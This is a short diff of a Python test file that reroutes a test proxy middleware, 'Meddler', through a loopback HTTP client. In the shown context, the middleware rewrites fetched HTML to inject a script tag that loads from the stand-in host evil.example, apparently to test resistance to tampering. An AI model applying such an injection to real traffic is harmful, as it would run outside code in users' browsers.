@@ -12,6 +12,7 @@ import pytest
 from starlette.responses import Response
 from starlette.types import Receive, Scope, Send
 
+from tests import loopback
 from tests.golive.stage import listening, served
 from tests.petty import plug_in
 from tests.process.test_cli import theke
@@ -240,7 +241,7 @@ class Meddler:
     async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
         if scope["type"] != "http":
             return
-        async with httpx.AsyncClient(timeout=60) as client:
+        async with loopback.client(timeout=60) as client:
             got = await client.get(f"{self.behind}{scope['path']}")
         content = got.content.replace(b"</head>", b"<script src=//evil.example></script></head>")
         changed = ("content-length", "content-encoding")  # what is passed on is not compressed
